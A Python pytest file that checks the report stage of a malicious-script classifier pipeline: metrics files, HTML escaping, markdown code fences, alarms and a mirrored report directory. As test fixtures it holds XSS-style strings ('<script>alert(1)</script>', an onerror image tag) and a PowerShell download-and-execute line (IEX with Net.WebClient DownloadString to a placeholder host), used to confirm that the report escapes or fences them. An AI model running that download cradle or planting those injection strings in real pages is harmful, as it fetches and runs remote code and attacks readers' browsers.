"""The report stage on a hand-made run directory: files, stable metrics keys, escaping, fences, alarm, degenerate
inputs, and the mirror in <report.dir>/<run.name>/. Nothing is trained or scored: upstream outputs are written by
hand with manifests whose fingerprints chain exactly as the runner expects."""
import json
import re
from html.parser import HTMLParser

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.evaluation import metrics as M
from pipeline.run import runner
from pipeline.config import load_config
from pipeline.run.records import Record, read_json, text_id, write_json
from pipeline.run.runner import BY_NAME, MANIFEST, run_stage
from pipeline.stages.evaluate import evaluate_scores, write_predictions
from pipeline.stages.report import STABLE_KEYS, md_code, md_table

TRAP = 'Write-Host "<script>alert(1)</script>"\n```\nnot the end of the block\n````\n'  # a benign false positive
TRAP_SOURCE = "tiny/<img src=x onerror=alert(2)>|evil.ps1"
PLOT_FILES = ("roc.png", "pr.png", "confusion.png", "score_hist.png", "calibration.png", "training.png")
LANGS = ("powershell", "python", "bash")


def _publish(cfg, run_dir, stage, files: dict[str, str], counts: dict) -> None:
    """Write a stage output the runner trusts: its fingerprint chains through the upstream output digests."""
    out = run_dir / stage
    out.mkdir(parents=True)
    for name, text in files.items():
        (out / name).write_text(text, encoding="utf-8")
    upstream = {dep: read_json(run_dir / dep / MANIFEST)["output_digest"] for dep in BY_NAME[stage].deps}
    write_json(out / MANIFEST, {"stage": stage, "fingerprint": runner.fingerprint(BY_NAME[stage], cfg, upstream),
                                "counts": counts, "seconds": 0.5, "output_digest": runner.output_digest(out)})


def _jsonl(rows) -> str:
    return "".join(json.dumps(r) + "\n" for r in rows)


def _split(name: str, n: int, labels=("benign", "malicious")) -> list[Record]:
    out = []
    for i in range(n):
        text = f"# {name} script {i}\necho step {i}\n"
        out.append(Record(text_id(text), text, labels[i % len(labels)], LANGS[i % 3],
                          f"{'guarddog' if i % 4 == 0 else 'tiny'}/{name}-{i}"))
    return out


def _scores(records: list[Record], rng) -> np.ndarray:
    return np.array([rng.uniform(0.35, 1.0) if r.label == "malicious" else rng.uniform(0.0, 0.65) for r in records])


def _history(steps: int = 40) -> list[dict]:
    logs = [{"loss": 0.7 - s / 100, "grad_norm": 1.0 + s / 50, "learning_rate": 1e-3 * (1 - s / steps),
             "epoch": s / 10, "step": s} for s in range(5, steps + 1, 5)]
    evals = [{"eval_loss": 0.69 - s / 200, "eval_roc_auc": 0.5 + s / 100, "step": s} for s in range(0, steps + 1, 10)]
    return sorted(logs + evals, key=lambda h: h["step"]) + [{"train_runtime": 9.0, "train_loss": 0.5, "step": steps}]


def make_run(tmp_path, *, fixed_threshold: float | None = None, one_class_test: bool = False, history=None,
             baseline: bool = True, augment_extra: dict | None = None, split_extra: dict | None = None):
    """A run directory with every stage up to evaluate 'done', and the config the report stage runs under."""
    cfg = load_config(None, overrides=[f"report.dir={tmp_path / 'reports'}", "run.name=demo",
                                       "report.worst_examples=3", "report.excerpt_chars=200"])
    run_dir, rng = tmp_path / "run", np.random.default_rng(0)
    train, val = _split("train", 40), _split("val", 20)
    test = _split("test", 24, ("benign",) if one_class_test else ("benign", "malicious"))
    test.append(Record(text_id(TRAP), TRAP, "benign", "powershell", TRAP_SOURCE))
    if not one_class_test:
        long_text = "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n" * 8  # longer than the excerpt
        test.append(Record(text_id(long_text), long_text, "malicious", "powershell", "tiny/long"))
    s_val, s_test = _scores(val, rng), _scores(test, rng)
    s_test[-1 if one_class_test else -2] = 0.99  # the trap: the highest-scoring benign script
    if not one_class_test:
        s_test[-1] = 0.01  # the long script: the lowest-scoring malicious one
    y_val, y_test = np.array([r.y for r in val]), np.array([r.y for r in test])
    policy = dict(policy="fixed", fixed=fixed_threshold) if fixed_threshold is not None else dict(policy="youden")
    chosen = M.choose_threshold(y_val, s_val, n_boot=50, **policy)
    t = chosen["threshold"]
    result = {"model": evaluate_scores(y_test, s_test, t, test, 50, 0), "threshold": chosen, "val_n": len(val)}

    records = _jsonl(json.loads(r.to_json()) for r in train + val + test)
    rejected = [{"location": "in/<script>x</script>.zip!a.ps1", "reason": "binary", "detail": "NUL\x00 | bytes"}]
    conflicts = [{"ids": ["a" * 64, "b" * 64], "votes": {"benign": 1, "malicious": 1}, "resolution": "dropped",
                  "sources": ["x/<b>bold</b>", "y|z"]}]
    _publish(cfg, run_dir, "ingest", {"records.jsonl": records, "rejected.jsonl": _jsonl(rejected)},
             {"in": 90, "accepted": 89, "rejected": 1, "rejected_by_reason": {"binary": 1},
              "per_label": {"benign": 45, "malicious": 44}, "per_lang": {"bash": 30, "powershell": 30, "python": 29}})
    _publish(cfg, run_dir, "dedup", {"records.jsonl": records, "conflicts.jsonl": _jsonl(conflicts)},
             {"in": 89, "exact_duplicates": 1, "near_duplicates": 1, "verified_pairs": 2, "conflicts": 1,
              "conflict_records_dropped": 2, "out": len(train + val + test)})
    _publish(cfg, run_dir, "split", {f"{n}.jsonl": _jsonl(json.loads(r.to_json()) for r in rs)
                                     for n, rs in (("train", train), ("val", val), ("test", test))},
             {"train": len(train), "val": len(val), "test": len(test),
              "per_label": {"train": {"benign": 20, "malicious": 20}, "val": {"benign": 10, "malicious": 10},
                            "test": {"benign": 13, "malicious": 13}},
              "groups": 86, "cross_split_exact_duplicates": 0, **(split_extra or {})})
    _publish(cfg, run_dir, "augment", {"train.jsonl": "{}\n"},
             {"in": 40, "variants": 30, "out": 70, "variants_per_label": {"benign": 15, "malicious": 15},
              "variant_rate_per_label": {"benign": 0.75, "malicious": 0.75},
              "transforms_per_label": {"rename_vars": {"benign": 9, "malicious": 8}},
              "python_parse_failures": 0, "unchanged_or_duplicate": 10, **(augment_extra or {})})
    _publish(cfg, run_dir, "balance", {"train.jsonl": "{}\n"},
             {"method": "hybrid", "in": 70, "out": 70,
              "before": {"n": 70, "per_label": {"benign": 35, "malicious": 35},
                         "transformed_fraction": {"benign": 0.43, "malicious": 0.43}},
              "after": {"n": 70, "per_label": {"benign": 35, "malicious": 35},
                        "transformed_fraction": {"benign": 0.43, "malicious": 0.43}}})
    _publish(cfg, run_dir, "train", {"log_history.json": json.dumps(_history() if history is None else history)},
             {"steps": 40, "epochs": 4.0, "val_loss_start": 0.69, "val_loss_end": 0.49,
              "best_checkpoint": "checkpoint-40", "backend": "hf", "device": "cpu", "train_seconds": 9.5})
    evaluate_dir = tmp_path / "evaluate-files"
    evaluate_dir.mkdir()
    write_predictions(evaluate_dir / "predictions.jsonl", test, s_test, t)
    files = {"metrics.json": json.dumps(result), "threshold.json": json.dumps(chosen),
             "predictions.jsonl": (evaluate_dir / "predictions.jsonl").read_text()}
    if baseline:
        s_base = np.clip(s_test + rng.normal(0, 0.2, len(test)), 0, 1)
        b_chosen = M.choose_threshold(y_val, np.clip(s_val + 0.05, 0, 1), n_boot=50)
        result["baseline"] = {**evaluate_scores(y_test, s_base, b_chosen["threshold"], test, 50, 0),
                              "threshold": b_chosen, "name": "tfidf"}
        write_predictions(evaluate_dir / "baseline.jsonl", test, s_base, b_chosen["threshold"])
        files |= {"metrics.json": json.dumps(result),
                  "baseline_predictions.jsonl": (evaluate_dir / "baseline.jsonl").read_text()}
    _publish(cfg, run_dir, "evaluate", files, {"threshold": t})
    return cfg, run_dir


def test_report_shows_the_config_its_manifests_recorded_not_the_live_one(tmp_path):
    cfg, run_dir = make_run(tmp_path)
    train_manifest = read_json(run_dir / "train" / MANIFEST)  # as the runner records it: the slices that ran
    write_json(run_dir / "train" / MANIFEST, {**train_manifest, "config": {"training": {"learning_rate": 0.000123},
                                                                        "lora": {"r": 7}}})
    cfg.tracking.project = "never-ran"  # read by no stage the report covers: must not show as if it ran
    run_stage(cfg, run_dir, "report", log=lambda m: None)
    shown = _fenced_blocks((run_dir / "report" / "report.md").read_text(encoding="utf-8"))[-1]
    assert "learning_rate: 0.000123" in shown and "r: 7" in shown and "name: demo" in shown
    assert "never-ran" not in shown and "tracking" not in shown


def _fenced_blocks(markdown: str) -> list[str]:
    """Contents of fenced code blocks by the CommonMark rule: a backtick fence closes only on a line of at least as
    many backticks (up to 3 spaces of indent, trailing spaces allowed)."""
    blocks, lines, i = [], markdown.split("\n"), 0
    while i < len(lines):
        opening = re.fullmatch(r" {0,3}(`{3,})[^`]*", lines[i])
        i += 1
        if not opening:
            continue
        n, body = len(opening.group(1)), []
        while i < len(lines) and not re.fullmatch(r" {0,3}`{%d,} *" % n, lines[i]):
            body.append(lines[i])
            i += 1
        blocks.append("\n".join(body) + "\n")
        i += 1
    return blocks


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.srcs = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.srcs += [v for k, v in attrs if k in ("src", "href")]


def _report(run_dir):
    return (run_dir / "report" / "report.md").read_text(), (run_dir / "report" / "report.html").read_text()


def test_report_files_keys_escaping_fences_and_mirror(tmp_path):
    cfg, run_dir = make_run(tmp_path)
    stale = tmp_path / "reports" / "demo" / "stale.txt"  # an older report: replaced whole
    stale.parent.mkdir(parents=True)
    stale.write_text("old")
    manifest = run_stage(cfg, run_dir, "report", log=lambda m: None)

    out, mirror = run_dir / "report", tmp_path / "reports" / "demo"
    expected = {"metrics.json", "report.md", "report.html", "run_dir.txt", *PLOT_FILES}  # run_dir.txt: whose report
    assert set(manifest["counts"]["files"]) == expected and not manifest["counts"]["alarm"]
    assert {p.name for p in mirror.iterdir()} == expected  # the stale file is gone, nothing half-written beside it
    assert all((mirror / f).read_bytes() == (out / f).read_bytes() for f in expected)
    assert not [p for p in mirror.parent.iterdir() if p.name.startswith(".")]
    assert all((out / f).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" for f in PLOT_FILES)

    metrics = json.loads((out / "metrics.json").read_text())
    assert set(STABLE_KEYS) <= set(metrics)
    assert {"sensitivity", "specificity", "precision", "f1", "balanced_accuracy", "mcc", "accuracy", "roc_auc",
            "pr_auc", "eval_loss", "brier", "ece", "threshold", "n", "per_lang", "per_source", "baseline", "ci95",
            "threshold_policy", "threshold_stability", "at_0_5", "alarm", "counts"} <= set(metrics)
    assert set(STABLE_KEYS) - {"baseline", "counts"} <= set(metrics["baseline"])
    assert metrics["counts"]["split"]["cross_split_exact_duplicates"] == 0 and metrics["alarm"] is None
    assert metrics["roc_auc"] == manifest["counts"]["roc_auc"]

    md, page = _report(run_dir)
    assert "ALARM" not in md and "ALARM" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower() and "<img src=x" not in page and "<b>bold" not in page
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div", "table",
                           "thead", "tbody", "tr", "th", "td", "pre", "code", "figure", "img", "figcaption"}
    assert len(parser.srcs) == len(PLOT_FILES) and all(s.startswith("data:image/png;base64,") for s in parser.srcs)

    assert TRAP in _fenced_blocks(md)  # the ``` and ```` lines inside the sample did not close its block
    long_excerpt = ("IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n" * 8)[:200]
    assert long_excerpt + "\n" in _fenced_blocks(md) and "(first 200 of" in md
    assert "\x00" not in md and "\x00" not in page
    assert "<script>" not in md.replace(TRAP, "")  # outside the code block, sample-born HTML is escaped
    assert "tiny/\\<img src=x onerror=alert(2)\\>\\|evil.ps1" in md


def test_alarm_opens_the_report_when_specificity_is_zero(tmp_path):
    cfg, run_dir = make_run(tmp_path, fixed_threshold=0.0)  # everything called malicious
    logs = []
    manifest = run_stage(cfg, run_dir, "report", log=logs.append)
    md, page = _report(run_dir)
    first_section = md.split("\n\n")[1]
    assert first_section.startswith("> **ALARM:**") and "specificity is 0.00" in first_section
    assert 'class="alarm"' in page and manifest["counts"]["alarm"]
    assert json.loads((run_dir / "report" / "metrics.json").read_text())["specificity"] == 0
    assert any("ALARM" in m for m in logs) and any(m.startswith("| metric | model") for m in logs)


def test_report_raises_the_alarm_for_unequal_transform_rates_and_leakage(tmp_path):
    rates = {"powershell": {"originals": {"benign": 30, "malicious": 30},
                            "whitespace": {"benign": 0.52, "malicious": 0.26}}}
    leak = {"threshold": 0.85, "warning": 0.7,
            "leaks": {"pairs": 2, "held_out_scripts": 2, "per_split": {"test": 2}, "from_variants": 0},
            "warnings": {"pairs": 1, "held_out_scripts": 1, "per_split": {"val": 1}, "from_variants": 1}}
    gaps = [{"lang": "powershell", "transform": "whitespace", "rates": rates["powershell"]["whitespace"], "gap": 0.26}]
    cfg, run_dir = make_run(tmp_path, augment_extra={"transform_rates": rates, "transform_rate_gaps": gaps,
                                                     "leakage": leak, "variants_dropped_for_leakage": 3})
    run_stage(cfg, run_dir, "report", log=lambda m: None)
    md, page = _report(run_dir)
    head = md.split("## ")[0]
    assert "powershell whitespace is applied at different rates per label" in head
    assert "leakage: 2 val/test scripts have a near-copy" in head
    assert "| powershell | whitespace | 0.52 | 0.26 | 0.26 |" in md and 'class="alarm"' in page


def test_report_gives_the_language_balanced_roc_auc_beside_the_plain_one(tmp_path, monkeypatch):
    monkeypatch.setattr(M, "MIN_CELL", 2)  # the hand-made test split holds a few scripts per language and label
    cfg, run_dir = make_run(tmp_path)
    run_stage(cfg, run_dir, "report", log=lambda m: None)
    md, _ = _report(run_dir)
    metrics = json.loads((run_dir / "report" / "metrics.json").read_text())
    balanced = metrics["roc_auc_language_balanced"]
    assert 0 <= balanced <= 1 and metrics["baseline"]["roc_auc_language_balanced"] is not None
    assert (f"ROC AUC with every (language, label) cell weighted equally: {balanced:.3f} (baseline "
            f"{metrics['baseline']['roc_auc_language_balanced']:.3f}), against {metrics['roc_auc']:.3f} unweighted") in md


def test_the_language_balanced_roc_auc_names_the_ensemble_when_there_is_one():
    from types import SimpleNamespace

    from pipeline.report.document import _one_scale

    key = "roc_auc_language_balanced"
    metrics = {key: 0.91, "roc_auc": 0.95, "baseline": {key: 0.93}, "ensemble": {key: 0.94}}
    (para,) = _one_scale(SimpleNamespace(metrics=metrics))
    assert para.text.startswith("ROC AUC with every (language, label) cell weighted equally: 0.910 (baseline 0.930, "
                                "ensemble 0.940), against 0.950 unweighted.")
    assert _one_scale(SimpleNamespace(metrics={key: None, "roc_auc": 0.95, "baseline": None})) == []


@pytest.mark.parametrize("scripts_in_those, alarmed", [(60, True), (40, False)])
def test_report_warns_when_one_label_sources_straddle_train_and_test(tmp_path, scripts_in_those, alarmed):
    sources = {"min_scripts": 10, "sources": 5, "single_label": 5, "single_label_in_train_and_held_out": 4,
               "scripts_in_those": scripts_in_those, "all_scripts": 100}
    cfg, run_dir = make_run(tmp_path, split_extra={"sources": sources})
    logs = []
    run_stage(cfg, run_dir, "report", log=logs.append)
    md, _ = _report(run_dir)
    assert any(m.startswith("[report] ALARM: split: ") for m in logs) is alarmed  # said on the console too
    head = md.split("## ")[0].replace("\\_", "_")  # markdown escapes underscores
    assert (f"split: {scripts_in_those} of 100 scripts come from sources that hold one label only" in head) is alarmed
    assert "data.split.source_val_size" in head if alarmed else "source_val_size" not in head
    assert f"| sources of 10+ scripts that hold one label | 5 of 5; in train and in val/test: 4 ({scripts_in_those} " \
           "of 100 scripts) |" in md


def test_degenerate_run_still_reports_and_says_which_plots_were_skipped(tmp_path):
    cfg, run_dir = make_run(tmp_path, one_class_test=True, history=[], baseline=False)
    manifest = run_stage(cfg, run_dir, "report", log=lambda m: None)
    assert set(manifest["counts"]["plots_skipped"]) == {"roc.png", "pr.png", "training.png"}
    assert manifest["counts"]["baseline_roc_auc"] is None
    metrics = json.loads((run_dir / "report" / "metrics.json").read_text())
    assert metrics["baseline"] is None and metrics["roc_auc"] is None and set(STABLE_KEYS) <= set(metrics)
    md, page = _report(run_dir)
    for f in ("roc.png", "pr.png", "training.png"):
        assert f"{f} was not drawn" in page and not (run_dir / "report" / f).exists()
    assert "0 entries, 0 evaluations" in md and TRAP in _fenced_blocks(md)
    assert (tmp_path / "reports" / "demo" / "report.html").read_text() == page


FENCE_LIKE = ["```", "````", "   ```", "```python", "~~~", ""]
LINES = st.one_of(st.sampled_from(FENCE_LIKE), st.text(alphabet="`~ a\t", max_size=8))


@given(st.lists(LINES, max_size=8).map("\n".join))
def test_no_text_can_close_its_code_fence(text):
    expected = text if text.endswith("\n") else text + "\n"
    assert _fenced_blocks(md_code(text)) == [expected]


@given(st.lists(st.text(alphabet="|\\`a\n<&", max_size=8), min_size=1, max_size=4))
def test_table_cells_never_split_or_break_rows(cells):
    row = md_table(["h"] * len(cells), [cells]).split("\n")[2:]
    assert len(row) == 1  # no newline escaped the row
    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", row[0])) == len(cells) + 1  # unescaped pipes: the delimiters only
